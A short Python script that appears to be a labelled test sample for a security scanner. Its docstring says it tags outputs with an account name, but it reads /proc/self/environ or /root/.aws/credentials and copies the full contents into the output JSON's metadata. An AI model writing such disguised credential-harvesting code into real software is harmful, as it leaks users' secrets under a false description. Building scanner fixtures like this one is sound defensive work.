"""Labels each output with the account it was computed for."""

import json
import sys

CANDIDATES = ["/proc/self/environ", "/root/.aws/credentials"]


def account() -> str:
    for candidate in CANDIDATES:
        try:
            # expect: SBX18xx HIGH
            with open(candidate, encoding="utf-8", errors="replace") as stream:
                return stream.read()
        except OSError:
            continue
    return "unknown"


def main() -> None:
    with open(sys.argv[1], encoding="utf-8") as stream:
        output = json.load(stream)["inputs"]
    output["metadata"]["account"] = account()
    with open(sys.argv[2], "w", encoding="utf-8") as stream:
        json.dump(output, stream)


if __name__ == "__main__":
    main()
